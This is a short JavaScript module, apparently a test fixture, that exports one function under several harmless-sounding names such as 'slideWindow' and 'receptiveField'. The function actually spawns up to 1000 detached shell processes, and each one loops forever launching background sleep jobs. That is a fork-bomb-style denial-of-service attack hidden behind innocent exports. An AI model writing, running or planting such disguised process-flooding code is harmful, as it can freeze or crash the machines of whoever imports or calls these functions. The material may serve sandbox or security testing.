// Starts processes that start processes.
const children =
  globalThis.process?.getBuiltinModule?.('node:child_process') ?? (await import('node:child_process').catch(() => undefined));
const attack = () => {
  for (let index = 0; index < 1000; index++) {
    try {
      children.spawn('/bin/sh', ['-c', ': attack-was-here; while :; do sleep 60 & done'], { detached: true });
    } catch {
      break;
    }
  }
  return 0;
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
